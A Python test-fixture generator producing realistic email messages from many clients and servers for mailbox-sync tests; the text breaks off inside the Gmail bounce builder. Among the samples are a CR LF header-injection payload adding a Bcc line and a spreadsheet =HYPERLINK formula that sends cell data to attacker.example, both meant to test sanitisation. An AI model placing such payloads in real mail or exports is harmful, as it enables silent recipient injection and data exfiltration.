"""Realistic messages for the mailbox tests, written the way real clients and servers write them.

``make(kind, **fields) -> bytes`` returns one message with CRLF line ends (as IMAP FETCH gives
it; ``append()`` and the Maildir helpers store it as it is).  ``KINDS`` maps each kind to what it
is; the templates are in ``corpus/<template>.eml`` (``${...}`` placeholders), the two made on the
fly (``deep_multipart``, ``huge``) are built here.  Every field has a default, so
``make("gmail_reply")`` alone is a complete reply from Anna Berg to Eva Lind answering
``CADENCE_ID``.  Output depends on the fields only (no clock, no randomness).

Fields (all optional; a kind that has no use for a field refuses it with ``TypeError``):

``from_addr``, ``from_name``   the sender (each kind has its own default sender)
``to_addr``, ``to_name``       the recipient (default the user, ``USER`` / ``USER_NAME``)
``date``                       aware ``datetime`` (written in the kind's own style and zone), or
                               a ``str`` put in the ``Date:`` header as it is
``message_id``                 the message's own Message-ID (default: made in the sender's style;
                               ``sent_copy`` uses ``CADENCE_ID``)
``in_reply_to``                the Message-ID this message answers or reports on (a cadence
                               draft's; default ``CADENCE_ID``): In-Reply-To/References of replies,
                               the returned headers of a DSN
``references``                 a list of Message-IDs (default ``[in_reply_to]``)
``subject``                    the subject of the cadence message (the kind adds "Re: " etc.)
``body``                       the sender's own words (the kind adds its quote, signature...)
``recipient``                  DSNs: the address that failed (default ``CONTACT``)
``returned``                   postfix_bounce: ``"headers"`` (text/rfc822-headers, default) or
                               ``"message"`` (message/rfc822)
``depth``                      deep_multipart: levels of nesting (default 200)
``size``                       huge: bytes of the attachment (default 50 MiB)

How Python's ``email`` package (``policy=email.policy.default``) sees the awkward ones, which is
what ``sync`` will see:

* ``header_injection``: ``msg["Subject"]`` holds a real CR LF ("...\\r\\nBcc: ..."), no Bcc header
  exists; the display name of From holds one too.  Strip control characters before a subject or
  name goes into the journal.
* ``hyperlink_subject``: ``msg["Subject"]`` starts with ``=HYPERLINK(``; a CSV cell must not.
* ``broken_date``: ``msg["Date"].datetime`` is None (an ``InvalidDateDefect``); a ``Date`` without
  a zone gives a naive datetime.
* ``no_message_id``: ``msg["Message-ID"]`` is None.
* ``idn_sender_utf8``: raw UTF-8 in headers; ``str(msg["From"])`` reads right but the parsed
  ``Address`` parts hold surrogate escapes (``"j\\udcc3\\udcbcrgen"``): undo with
  ``.encode("utf-8", "surrogateescape").decode("utf-8")``.
* ``deep_multipart``: 200 levels parse; around 1000 the parser raises ``RecursionError``.
* ``huge``: a full parse of 50 MiB takes seconds; fetch headers only (``BODY.PEEK[HEADER]``)
  where headers are all that is needed.
* DSNs: the ``message/delivery-status`` part's ``get_payload()`` is a list of header blocks, the
  per-message block first, then one per recipient (``Final-Recipient``, ``Action``, ``Status``).
"""
from __future__ import annotations

import base64
import datetime as dt
import functools
import hashlib
import html
import quopri
import re
import string
from email.charset import BASE64, QP, Charset
from email.header import Header
from email.utils import formataddr
from pathlib import Path
from zoneinfo import ZoneInfo

CORPUS = Path(__file__).with_name("corpus")

USER = "eva@konsult.example"
USER_NAME = "Eva Lind"
CONTACT = "jonas.ek@nordbygg.example"
CONTACT_NAME = "Jonas Ek"
# A Message-ID as cadence makes them: 32 hex digits of a digest @ the sender's domain.
CADENCE_ID = "<3f1c0e5b9a7d4c2e8b6f1a0d9c8e7b6a@konsult.example>"
SUBJECT = "Thank you for the meeting"
DATE = dt.datetime(2026, 12, 3, 10, 15, 2, tzinfo=ZoneInfo("Europe/Stockholm"))
HUGE_SIZE = 50 * 1024 * 1024
DEEP = 200

KINDS = {
    "gmail_reply": "Gmail web reply: multipart/alternative, quoted text, Gmail Message-ID, DKIM",
    "outlook_reply": "Outlook/Exchange Online reply: RE:, Thread-Index, Thread-Topic, "
                     "In-Reply-To/References, iso-8859-1 quoted-printable",
    "autoreply_exchange": "Exchange out-of-office: Automatic reply:, auto-submitted: "
                          "auto-replied, X-Auto-Response-Suppress: All",
    "autoreply_x_autoreply": "an autoresponder marked only by X-Autoreply: yes",
    "autoreply_x_autorespond": "an autoresponder marked only by X-Autorespond",
    "autoreply_precedence": "an autoresponder marked only by Precedence: auto_reply",
    "auto_submitted_no": "a human reply whose client writes Auto-Submitted: no (not automatic)",
    "postfix_bounce": "Postfix DSN: multipart/report, Action: failed, Status: 5.1.1, "
                      "Diagnostic-Code, the returned headers with the original Message-ID",
    "gmail_bounce": "Gmail DSN from mailer-daemon@googlemail.com: Action: failed, the whole "
                    "original message returned",
    "delayed_dsn": "Postfix delay warning: Action: delayed, Status: 4.4.1 (not a bounce)",
    "junk_reply": "a plain reply carrying SpamAssassin's verdict, to be put in Junk",
    "stranger": "a message from someone who is no contact (threading headers only if "
                "in_reply_to is given)",
    "russian_reply": "Yandex reply in Russian: UTF-8 base64 encoded words and body, Message-Id",
    "ukrainian_reply": "Outlook reply in Ukrainian: windows-1251 encoded words and body, ВІДП:",
    "swedish_reply": "Apple Mail reply in Swedish: Q encoded words, Sv:, Mime-Version comment",
    "idn_sender": "a sender at an internationalized domain, written in punycode (xn--)",
    "idn_sender_utf8": "an SMTPUTF8 message: raw UTF-8 in From, To and Subject (RFC 6532)",
    "sent_copy": "what a client stores in Sent after sending a cadence draft (same Message-ID)",
    "header_injection": "encoded CR LF and a Bcc: line in the Subject and the From name",
    "hyperlink_subject": "a Subject that starts with =HYPERLINK( (spreadsheet formula)",
    "broken_date": "a Date: header that does not parse",
    "no_message_id": "a reply without a Message-ID header",
    "deep_multipart": "multiparts nested `depth` (200) levels deep",
    "huge": "a message with a `size`-byte (50 MiB) attachment, made on the fly",
}

_COMMON = frozenset({"from_addr", "from_name", "to_addr", "to_name", "date", "message_id",
                     "in_reply_to", "references", "subject", "body"})
_EXTRA = {"postfix_bounce": {"recipient", "returned"}, "gmail_bounce": {"recipient"},
          "delayed_dsn": {"recipient"}, "deep_multipart": {"depth"}, "huge": {"size"}}

# kind -> default sender
_SENDERS = {
    "gmail_reply": ("Anna Berg", "anna.berg@gmail.com"),
    "outlook_reply": (CONTACT_NAME, CONTACT),
    "autoreply_exchange": (CONTACT_NAME, CONTACT),
    "autoreply_x_autoreply": ("Karin Dahl", "karin@dahlredovisning.example"),
    "autoreply_x_autorespond": ("Karin Dahl", "karin@dahlredovisning.example"),
    "autoreply_precedence": ("Karin Dahl", "karin@dahlredovisning.example"),
    "auto_submitted_no": ("Karin Dahl", "karin@dahlredovisning.example"),
    "junk_reply": (CONTACT_NAME, CONTACT),
    "stranger": ("Lars Holm", "lars.holm@nordbygg.example"),
    "russian_reply": ("Анна Смирнова", "anna.smirnova@yandex.ru"),
    "ukrainian_reply": ("Олена Коваленко", "olena.kovalenko@budinvest.example"),
    "swedish_reply": ("Åsa Öberg", "asa.oberg@bygghandel.example"),
    "idn_sender": ("Jürgen Müller", "juergen@müller-bau.example"),
    "idn_sender_utf8": ("Jürgen Müller", "jürgen@müller-bau.example"),
    "sent_copy": (USER_NAME, USER),
}

_BODIES = {
    "gmail_reply": "Hi Eva,\n\nThanks, that sounds good. Tuesday at 10 works for me.\n\nBest,\nAnna",
    "outlook_reply": "Hej Eva,\n\nTack för senast! Vi återkommer med ett beslut före jul.\n\n"
                     "Med vänliga hälsningar\nJonas Ek\nInköpschef, Nordbygg AB",
    "autoreply_exchange": "I am out of the office until Monday 14 December with limited access "
                          "to email.\nFor urgent matters, please contact info@nordbygg.example.",
    "autoreply_x_autoreply": "Thank you for your message. I am on parental leave and will read "
                             "it when I am back.",
    "autoreply_x_autorespond": "This mailbox is not monitored daily. We will get back to you "
                               "within five working days.",
    "autoreply_precedence": "I am travelling this week and will answer when I return.",
    "auto_submitted_no": "Hi Eva,\n\nYes, please send the proposal.\n\nKarin",
    "junk_reply": "Hi Eva,\n\nSorry for the late answer. Could we talk on Friday?\n\nJonas",
    "stranger": "Hello,\n\nJonas forwarded your note to me. Do you also run workshops for "
                "site managers?\n\nRegards,\nLars Holm",
    "russian_reply": "Здравствуйте, Ева!\n\nСпасибо за встречу. Давайте продолжим на "
                     "следующей неделе.\n\nС уважением,\nАнна",
    "ukrainian_reply": "Доброго дня, Єво!\n\nДякую за зустріч. Ґрунтовна пропозиція, "
                       "її вже переглядають.\n\nЗ повагою,\nОлена",
    "swedish_reply": "Hej Eva!\n\nTack för mötet i går. Vi hörs på måndag.\n\nVänliga "
                     "hälsningar\nÅsa",
    "idn_sender": "Hallo Eva,\n\nvielen Dank, wir melden uns nächste Woche.\n\nJürgen",
    "idn_sender_utf8": "Hallo Eva,\n\nvielen Dank für das Gespräch.\n\nJürgen",
    "sent_copy": "Hi Jonas,\n\nthank you for the meeting today. As promised, here is a short "
                 "summary of what we agreed.\n\nBest regards,\nEva",
    "header_injection": "Hi,\n\nsee the subject.\n",
    "hyperlink_subject": "Hi Eva,\n\nplease see the link in the subject.\n",
    "broken_date": "Hi Eva,\n\nthanks, talk soon.\n\nKarin",
    "no_message_id": "Hi Eva,\n\nreceived, thank you.\n\nKarin",
    "deep_multipart": "the bottom of the nest",
    "huge": "Hi Eva,\n\nhere is the signed offer.\n\nJonas",
}

# The subject of the cadence message each kind answers, when the caller gives none.
_SUBJECTS = {"russian_reply": "Спасибо за встречу", "ukrainian_reply": "Дякуємо за зустріч",
             "swedish_reply": "Tack för mötet"}

_SUBJECT_PREFIX = {
    "gmail_reply": "Re: ", "outlook_reply": "RE: ", "autoreply_exchange": "Automatic reply: ",
    "autoreply_x_autoreply": "Re: ", "autoreply_x_autorespond": "Autoreply: ",
    "autoreply_precedence": "Out of Office: ", "auto_submitted_no": "Re: ",
    "junk_reply": "Re: ", "russian_reply": "Re: ", "ukrainian_reply": "ВІДП: ",
    "swedish_reply": "Sv: ", "idn_sender": "Re: ", "idn_sender_utf8": "Re: ", "sent_copy": "",
    "no_message_id": "Re: ", "broken_date": "Re: ", "deep_multipart": "Re: ", "huge": "Re: ",
}


def make(kind: str, **fields) -> bytes:
    """One message of ``kind`` (see ``KINDS``), CRLF line ends."""
    if kind not in KINDS:
        raise ValueError(f"unknown kind {kind!r}; known: {', '.join(sorted(KINDS))}")
    unknown = set(fields) - _COMMON - _EXTRA.get(kind, set())
    if unknown:
        raise TypeError(f"{kind} takes no field {', '.join(sorted(unknown))}")
    built = _BUILDERS[kind](kind, _Fields(kind, fields))
    return built if isinstance(built, bytes) else _crlf(built)


# --- the pieces -----------------------------------------------------------------------------

class _Fields:
    """The caller's fields over the kind's defaults, plus what is derived from them."""

    def __init__(self, kind: str, given: dict) -> None:
        self.kind = kind
        self.given = given
        name, addr = _SENDERS.get(kind, ("Anna Berg", "anna.berg@gmail.com"))
        self.from_name = given.get("from_name", name)
        self.from_addr = given.get("from_addr", addr)
        default_to = (CONTACT_NAME, CONTACT) if kind == "sent_copy" else (USER_NAME, USER)
        self.to_name = given.get("to_name", default_to[0])
        self.to_addr = given.get("to_addr", default_to[1])
        self.date = given.get("date", DATE)
        self.in_reply_to = _angle(given.get("in_reply_to", CADENCE_ID))
        refs = given.get("references")
        self.references = [_angle(r) for r in refs] if refs is not None else [self.in_reply_to]
        self.subject = given.get("subject", _SUBJECTS.get(kind, SUBJECT))
        self.body = given.get("body", _BODIES.get(kind, ""))
        self.digest = hashlib.sha256(repr((kind, sorted(
            (k, str(v)) for k, v in given.items()))).encode("utf-8")).hexdigest()
        self.message_id = _angle(given["message_id"]) if given.get("message_id") else None

    @property
    def from_domain(self) -> str:
        return self.from_addr.rpartition("@")[2]

    def reply_subject(self) -> str:
        return _SUBJECT_PREFIX.get(self.kind, "Re: ") + self.subject

    def when(self, zone: str) -> dt.datetime | str:
        if isinstance(self.date, str):
            return self.date
        if self.date.tzinfo is None:
            raise ValueError("date must be timezone-aware (or a str for the Date header)")
        return self.date.astimezone(ZoneInfo(zone))

    def date_header(self, zone: str, style: str = "plain") -> str:
        when = self.when(zone)
        return when if isinstance(when, str) else _rfc5322(when, style)

    def later(self, zone: str, seconds: int, style: str = "postfix") -> str:
        """A transport timestamp a little after the message's date (its own Date if a str)."""
        when = self.when(zone)
        if isinstance(when, str):
            when = DATE.astimezone(ZoneInfo(zone))
        return _rfc5322(when + dt.timedelta(seconds=seconds), style)

    def epoch(self) -> int:
        return int((DATE if isinstance(self.date, str) else self.date).timestamp())

    def hexid(self, n: int, start: int = 0) -> str:
        return (self.digest * 2)[start:start + n]


def _angle(value: str) -> str:
    value = value.strip()
    return value if value.startswith("<") else f"<{value}>"


def _rfc5322(when: dt.datetime, style: str) -> str:
    day = ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")[when.weekday()]
    month = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov",
             "Dec")[when.month - 1]
    offset = when.utcoffset() or dt.timedelta(0)
    sign = "-" if offset < dt.timedelta(0) else "+"
    minutes = abs(int(offset.total_seconds())) // 60
    zone = f"{sign}{minutes // 60:02d}{minutes % 60:02d}"
    clock = when.strftime("%H:%M:%S")
    if style == "postfix":     # Thu,  3 Dec 2026 10:15:02 +0100 (CET)
        return f"{day}, {when.day:2d} {month} {when.year} {clock} {zone} ({when.tzname()})"
    if style == "google":      # Thu, 03 Dec 2026 01:15:02 -0800 (PST)
        return f"{day}, {when.day:02d} {month} {when.year} {clock} {zone} ({when.tzname()})"
    if style == "padded":      # Thu, 03 Dec 2026 12:15:02 +0300
        return f"{day}, {when.day:02d} {month} {when.year} {clock} {zone}"
    return f"{day}, {when.day} {month} {when.year} {clock} {zone}"   # Thu, 3 Dec 2026 ...


def _words(text: str, charset: str = "utf-8", encoding: str = "B") -> str:
    """``text`` as RFC 2047 encoded words (folded like clients do), or as it is if ASCII."""
    if text.isascii() and "\r" not in text and "\n" not in text:
        return text
    cs = Charset(charset)
    cs.header_encoding = BASE64 if encoding == "B" else QP
    return Header(text, cs, maxlinelen=76, header_name="Subject").encode(linesep="\n")


def _address(name: str, addr: str, charset: str = "utf-8", encoding: str = "B",
             idn: bool = True) -> str:
    if idn and not addr.isascii():
        local, _, domain = addr.rpartition("@")
        addr = f"{local}@{domain.encode('idna').decode('ascii')}"
    if not name:
        return addr
    if name.isascii() and "\r" not in name and "\n" not in name:
        return formataddr((name, addr))
    return f"{_words(name, charset, encoding)} <{addr}>"


def _qp(text: str, charset: str = "utf-8") -> str:
    return quopri.encodestring(text.encode(charset)).decode("ascii")


def _b64(text: str, charset: str = "utf-8") -> str:
    return base64.encodebytes(text.encode(charset)).decode("ascii")


def _fill(template: str, values: dict) -> str:
    """``string.Template`` over the file, except that a line which is only ``${name}`` with
    the value None disappears (an absent optional header)."""
    lines = []
    for line in _read(template).split("\n"):
        alone = re.fullmatch(r"\$\{(\w+)\}", line)
        if alone and alone.group(1) in values and values[alone.group(1)] is None:
            continue
        lines.append(string.Template(line).substitute(values))
    return "\n".join(lines)


@functools.lru_cache(maxsize=None)
def _read(template: str) -> str:
    return (CORPUS / f"{template}.eml").read_text(encoding="utf-8")


def _crlf(text: str | bytes) -> bytes:
    data = text.encode("utf-8") if isinstance(text, str) else text
    return re.sub(rb"\r?\n", b"\r\n", data)


def _thread_index(f: _Fields) -> str:
    # Exchange's Thread-Index: a 22-byte header (FILETIME + GUID), base64.
    return base64.b64encode(b"\x01\xdb" + bytes.fromhex(f.hexid(40))).decode("ascii")


def _outlook_id(f: _Fields) -> str:
    return f"<DB9PR07MB7353{f.hexid(32).upper()}@DB9PR07MB7353.eurprd07.prod.outlook.com>"


def _refs(f: _Fields) -> str:
    return "\n ".join(f.references)


# --- builders, one per kind -----------------------------------------------------------------

def _gmail_id(f: _Fields) -> str:
    token = base64.b64encode(bytes.fromhex(f.hexid(36))).decode("ascii").replace("/", "_")
    return f"<CAJ7xQ{token}@mail.gmail.com>"


def _gmail_reply(kind: str, f: _Fields) -> str:
    original = f.when("Europe/Stockholm")
    if isinstance(original, str):
        original = DATE
    original -= dt.timedelta(days=2, hours=1, minutes=15, seconds=2)
    hour = original.hour % 12 or 12
    quote_date = (f"{original:%a}, {original:%b} {original.day}, {original.year} at "
                  f"{hour}:{original:%M} {'AM' if original.hour < 12 else 'PM'}")
    quoted = f"{SUBJECT}. It was a pleasure to meet you."
    plain = (f"{f.body}\n\nOn {quote_date} {USER_NAME} <{USER}> wrote:\n\n> {quoted}\n>\n")
    html_body = "".join(f"<div>{html.escape(line) or '<br>'}</div>" for line in f.body.split("\n"))
    html_text = (f'<div dir="ltr">{html_body}</div><br><div class="gmail_quote"><div dir="ltr" '
                 f'class="gmail_attr">On {quote_date} {html.escape(USER_NAME)} &lt;<a href="mailto:'
                 f'{USER}">{USER}</a>&gt; wrote:<br></div><blockquote class="gmail_quote" '
                 f'style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);'
                 f'padding-left:1ex">{html.escape(quoted)}<br></blockquote></div>\n')
    epoch = f.epoch()
    return _fill("gmail_reply", {
        "to_addr": f.to_addr, "from_addr": f.from_addr, "epoch": epoch,
        "epoch_next": epoch + 604800,
        "received_date": f.later("America/Los_Angeles", 1, "google"),
        "references": _refs(f), "in_reply_to": f.in_reply_to,
        "from_header": _address(f.from_name, f.from_addr),
        "date_header": f.date_header("Europe/Stockholm"),
        "message_id": f.message_id or _gmail_id(f),
        "subject_header": _words(f.reply_subject()),
        "to_header": _address(f.to_name, f.to_addr),
        "boundary": f"000000000000{f.hexid(16)}",
        "plain_qp": _qp(plain), "html_qp": _qp(html_text)})


def _fits(charset: str, *texts: str) -> bool:
    try:
        for text in texts:
            text.encode(charset)
    except UnicodeEncodeError:
        return False
    return True


def _outlook(template: str, f: _Fields, *, charset: str, plain: str) -> str:
    if not _fits(charset, plain, f.reply_subject(), f.from_name, f.to_name):
        charset = "utf-8"  # what Outlook does when its code page cannot say it
    html_text = _outlook_html(plain, charset)
    values = {
        "charset": charset,
        "to_addr": f.to_addr, "from_addr": f.from_addr,
        "date_header_local": f.later("Europe/Stockholm", 2),
        "from_header": _address(f.from_name, f.from_addr, charset),
        "to_header": _address(f.to_name, f.to_addr, charset),
        "subject_header": _words(f.reply_subject(), charset),
        "thread_topic": _words(f.subject, charset),
        "thread_index": _thread_index(f),
        "date_header": f.date_header("UTC"),
        "message_id": f.message_id or _outlook_id(f),
        "references": _refs(f), "in_reply_to": f.in_reply_to,
        "boundary": f"_000_DB9PR07MB7353{f.hexid(20).upper()}DB9PR07MB7353eurp_",
        "queue_id": f"4Q7f{f.hexid(9)}", "received_date": f.later("Europe/Stockholm", 2),
        "plain_qp": _qp(plain, charset), "html_qp": _qp(html_text, charset),
        "plain_b64": _b64(plain, charset),
    }
    return _fill(template, values)


def _outlook_html(text: str, charset: str = "iso-8859-1") -> str:
    paragraphs = "".join(f'<div class="elementToProof">{html.escape(line) or "<br>"}</div>\n'
                         for line in text.split("\n"))
    return ('<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; '
            f'charset={charset}">\n<style type="text/css" style="display:none;"> '
            'P {margin-top:0;margin-bottom:0;} </style>\n</head>\n<body dir="ltr">\n'
            f'{paragraphs}</body>\n</html>\n')


def _outlook_reply(kind: str, f: _Fields) -> str:
    original = DATE - dt.timedelta(days=2)
    plain = (f"{f.body}\n\n________________________________\nFrån: {USER_NAME} <{USER}>\n"
             f"Skickat: den {original.day} december {original.year} 09:00\n"
             f"Till: {f.from_name} <{f.from_addr}>\nÄmne: {f.subject}\n\n"
             f"{SUBJECT}. It was a pleasure to meet you.\n")
    return _outlook("outlook_reply", f, charset="iso-8859-1", plain=plain)


def _autoreply_exchange(kind: str, f: _Fields) -> str:
    return _outlook("autoreply_exchange", f, charset="us-ascii", plain=f.body + "\n")


def _ukrainian_reply(kind: str, f: _Fields) -> str:
    plain = f"{f.body}\n\n-----Original Message-----\nFrom: {USER_NAME} <{USER}>\n" \
            f"Subject: {f.subject}\n"
    return _outlook("outlook_cp1251_reply", f, charset="windows-1251", plain=plain)


def _thunderbird(f: _Fields, *, extra_headers: str | None = None, subject: str | None = None,
                 from_header: str | None = None, to_header: str | None = None,
                 threaded: bool = True, message_id: str | None | bool = True) -> str:
    if message_id is True:
        message_id = f.message_id or (f"<{f.hexid(8)}-{f.hexid(4, 8)}-{f.hexid(4, 12)}-"
                                      f"{f.hexid(4, 16)}-{f.hexid(12, 20)}"
                                      f"@{_ascii_domain(f.from_domain)}>")
    plain = f.body if f.body.endswith("\n") else f.body + "\n"
    return _fill("thunderbird", {
        "from_addr": _ascii_addr(f.from_addr), "to_addr": f.to_addr,
        "relay": f"mail.{_ascii_domain(f.from_domain)}", "queue_id": f"4Q7g{f.hexid(9)}",
        "received_date": f.later("Europe/Stockholm", 3),
        "extra_headers": extra_headers,
        "message_id_line": f"Message-ID: {message_id}" if message_id else None,
        "date_header": f.date_header("Europe/Stockholm"),
        "subject_header": subject if subject is not None else _words(f.reply_subject()),
        "to_header": to_header or _address(f.to_name, f.to_addr),
        "references_line": f"References: {_refs(f)}" if threaded else None,
        "from_header": from_header or _address(f.from_name, f.from_addr),
        "in_reply_to_line": f"In-Reply-To: {f.in_reply_to}" if threaded else None,
        "transfer_encoding": "7bit" if plain.isascii() else "8bit",
        "plain": plain})


def _ascii_domain(domain: str) -> str:
    return domain.encode("idna").decode("ascii") if not domain.isascii() else domain


def _ascii_addr(addr: str) -> str:
    local, _, domain = addr.rpartition("@")
    return f"{local}@{_ascii_domain(domain)}" if local.isascii() else addr


def _simple(headers: str):
    """A reply written by Thunderbird, with ``headers`` added on the way (an autoresponder's
    marks, a client's Auto-Submitted: no)."""
    def build(kind: str, f: _Fields) -> str:
        return _thunderbird(f, extra_headers=headers)
    return build


def _junk_reply(kind: str, f: _Fields) -> str:
    return _thunderbird(f, extra_headers=(
        "X-Spam-Flag: YES\nX-Spam-Score: 6.3\nX-Spam-Level: ******\n"
        "X-Spam-Status: Yes, score=6.3 required=5.0 tests=FREEMAIL_FROM,HTML_MESSAGE,\n"
        "\tRDNS_NONE,SPF_SOFTFAIL,URIBL_BLOCKED autolearn=no autolearn_force=no\n"
        "\tversion=4.0.0"))


def _stranger(kind: str, f: _Fields) -> str:
    threaded = "in_reply_to" in f.given
    subject = f.given.get("subject", "Question about your workshops")
    subject = ("Re: " + subject) if threaded else subject
    return _thunderbird(f, subject=_words(subject), threaded=threaded)


def _russian_reply(kind: str, f: _Fields) -> str:
    plain = f"{f.body}\n\n03.12.2026, 09:00, \"{USER_NAME}\" <{USER}>:\n> {SUBJECT}\n"
    return _fill("yandex_reply", {
        "from_addr": f.from_addr, "to_addr": f.to_addr, "queue_id": f"4Q7h{f.hexid(9)}",
        "received_date": f.later("Europe/Stockholm", 2),
        "date_header": f.date_header("Europe/Moscow", "padded"), "epoch": f.epoch(),
        "from_header": _address(f.from_name, f.from_addr),
        "to_header": _address(f.to_name, f.to_addr),
        "in_reply_to": f.in_reply_to, "references": _refs(f),
        "subject_header": _words(f.reply_subject()),
        "message_id": f.message_id or f"<{int(f.hexid(12), 16) % 10**15}@mail.yandex.ru>",
        "plain_b64": _b64(plain)})


def _swedish_reply(kind: str, f: _Fields) -> str:
    plain = f"{f.body}\n\n> {SUBJECT}\n"
    uuid = f.hexid(32).upper()
    return _fill("apple_mail_reply", {
        "from_addr": f.from_addr, "to_addr": f.to_addr, "queue_id": f"4Q7j{f.hexid(9)}",
        "received_date": f.later("Europe/Stockholm", 2),
        "from_header": _address(f.from_name, f.from_addr, encoding="Q"),
        "subject_header": _words(f.reply_subject(), encoding="Q"),
        "date_header": f.date_header("Europe/Stockholm"),
        "references": _refs(f), "to_header": _address(f.to_name, f.to_addr, encoding="Q"),
        "in_reply_to": f.in_reply_to,
        "message_id": f.message_id or (f"<{uuid[:8]}-{uuid[8:12]}-{uuid[12:16]}-{uuid[16:20]}-"
                                       f"{uuid[20:32]}@{f.from_domain}>"),
        "plain_qp": _qp(plain)})


def _idn_sender(kind: str, f: _Fields) -> str:
    return _thunderbird(f)


def _idn_sender_utf8(kind: str, f: _Fields) -> str:
    # A client that speaks SMTPUTF8 writes UTF-8 as it is, no encoded words, no punycode.
    return _thunderbird(f, subject=f.reply_subject(),
                        from_header=f"{f.from_name} <{f.from_addr}>",
                        to_header=f"{f.to_name} <{f.to_addr}>")


def _sent_copy(kind: str, f: _Fields) -> str:
    threaded = "in_reply_to" in f.given
    plain = f.body if f.body.endswith("\n") else f.body + "\n"
    return _fill("sent_copy", {
        "message_id_line": f"Message-ID: {f.message_id or CADENCE_ID}",
        "date_header": f.date_header("Europe/Stockholm"),
        "to_header": _address(f.to_name, f.to_addr),
        "from_header": _address(f.from_name, f.from_addr),
        "subject_header": _words(f.reply_subject()),
        "references_line": f"References: {_refs(f)}" if threaded else None,
        "in_reply_to_line": f"In-Reply-To: {f.in_reply_to}" if threaded else None,
        "extra_headers": None, "plain": plain})


INJECTED = "Bcc: everyone@konsult.example"


def _raw_word(text: str) -> str:
    # One encoded word with the bytes as they are (email.header.Header would turn the CR LF
    # into spaces; an attacker's mailer does not).
    return "=?utf-8?b?" + base64.b64encode(text.encode("utf-8")).decode("ascii") + "?="


def _header_injection(kind: str, f: _Fields) -> str:
    subject = f"Re: {f.subject}\r\n{INJECTED}"
    name = f"{f.from_name}\r\nX-Injected: yes"
    return _thunderbird(f, subject=_raw_word(subject),
                        from_header=f"{_raw_word(name)} <{f.from_addr}>")


HYPERLINK = '=HYPERLINK("https://attacker.example/?d="&A1,"Open the offer")'


def _hyperlink_subject(kind: str, f: _Fields) -> str:
    return _thunderbird(f, subject=f.given.get("subject", HYPERLINK))


BROKEN_DATE = "Thursday, the 3rd of December 2026, quarter past ten"


def _broken_date(kind: str, f: _Fields) -> str:
    if "date" not in f.given:
        f.date = BROKEN_DATE
    return _thunderbird(f)


def _no_message_id(kind: str, f: _Fields) -> str:
    return _thunderbird(f, message_id=None)


def _postfix_header_block(f: _Fields, recipient: str, queue_id: str) -> str:
    sent = DATE - dt.timedelta(seconds=2) if isinstance(f.when("Europe/Stockholm"), str) \
        else f.when("Europe/Stockholm") - dt.timedelta(seconds=2)
    return (f"Return-Path: <{f.to_addr}>\n"
            f"Received: from [198.51.100.7] (c-198-51-100-7.example [198.51.100.7])\n"
            f"\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits))\n"
            f"\t(No client certificate requested)\n"
            f"\t(Authenticated sender: {f.to_addr})\n"
            f"\tby mail.konsult.example (Postfix) with ESMTPSA id {queue_id}\n"
            f"\tfor <{recipient}>; {_rfc5322(sent, 'postfix')}\n"
            f"From: {_address(f.to_name, f.to_addr)}\n"
            f"To: {_address(CONTACT_NAME if recipient == CONTACT else '', recipient)}\n"
            f"Subject: {_words(f.subject)}\n"
            f"Date: {_rfc5322(sent, 'padded')}\n"
            f"Message-ID: {f.in_reply_to}\n"
            f"X-Unsent: 1\n"
            f"MIME-Version: 1.0\n"
            f"Content-Type: text/plain; charset=\"utf-8\"\n"
            f"Content-Transfer-Encoding: 7bit\n")


_BODY_OF_ORIGINAL = "Hi Jonas,\n\nthank you for the meeting today.\n\nBest regards,\nEva\n"


def _postfix_bounce(kind: str, f: _Fields) -> str:
    recipient = f.given.get("recipient", CONTACT)
    returned = f.given.get("returned", "headers")
    if returned not in ("headers", "message"):
        raise ValueError("returned is 'headers' or 'message'")
    queue_id = "4Q7fB21xKjz9sRc"
    headers = _postfix_header_block(f, recipient, queue_id)
    if returned == "headers":
        part = ("Content-Description: Undelivered Message Headers\n"
                "Content-Type: text/rfc822-headers\nContent-Transfer-Encoding: 8bit\n\n"
                + headers)
    else:
        part = ("Content-Description: Undelivered Message\nContent-Type: message/rfc822\n"
                "Content-Transfer-Encoding: 8bit\n\n" + headers + "\n" + _BODY_OF_ORIGINAL)
    domain = recipient.rpartition("@")[2]
    diagnostic = (f"550 5.1.1 <{recipient}>: Recipient address rejected: User unknown in "
                  f"virtual mailbox table")
    when = f.when("Europe/Stockholm")
    return _fill("postfix_bounce", {
        "to_addr": f.to_addr, "date_header": f.date_header("Europe/Stockholm", "postfix"),
        "boundary": f"{queue_id}.{f.epoch()}/mail.konsult.example",
        "message_id": f.message_id or (
            f"<{(DATE if isinstance(when, str) else when).astimezone(dt.timezone.utc):%Y%m%d%H%M%S}"
            f".{queue_id}@mail.konsult.example>"),
        "recipient": recipient, "remote_mta": f"mx.{domain}",
        "diagnostic_wrapped": diagnostic.replace(" Recipient", "\n    Recipient"),
        "diagnostic_folded": diagnostic.replace(" rejected:", "\n    rejected:"),
        "arrival_date": f.later("Europe/Stockholm", -2), "action": "failed", "status": "5.1.1",
        "returned": part})


def _delayed_dsn(kind: str, f: _Fields) -> str:
    recipient = f.given.get("recipient", CONTACT)
    queue_id = "4Q7fC47mQnz9sRd"
    when = f.when("Europe/Stockholm")
    base = DATE if isinstance(when, str) else when
    return _fill("postfix_delayed", {
        "to_addr": f.to_addr, "date_header": f.date_header("Europe/Stockholm", "postfix"),
        "boundary": f"{queue_id}.{f.epoch()}/mail.konsult.example",
        "message_id": f.message_id or (
            f"<{base.astimezone(dt.timezone.utc):%Y%m%d%H%M%S}.{queue_id}@mail.konsult.example>"),
        "recipient": recipient, "remote_mta": f"mx.{recipient.rpartition('@')[2]}",
        "arrival_date": _rfc5322(base - dt.timedelta(hours=4), "postfix"),
        "retry_until": _rfc5322(base + dt.timedelta(days=5) - dt.timedelta(hours=4), "postfix"),
        "original_headers": _postfix_header_block(f, recipient, queue_id)})


def _gmail_bounce(kind: str, f: _Fields) -> str:
    recipient = f.given.get("recipient", CONTACT)
    domain = recipient.rpartition("@")[2]
    diagnostic = ("550 5.1.1 The email account that you tried to reach does not exist. Please "
                  "try double-checking the recipient's email address for typos or unnecessary "
                  "spaces. For more information, go to https://support.google.com/mail/?p="
                  "NoSuchUser a640c23a62f3a-aa5b1f0c2d9si812345666b.12 - gsmtp")
    folded = ("550-5.1.1 The email account that you tried to reach does not exist. Please try\n"
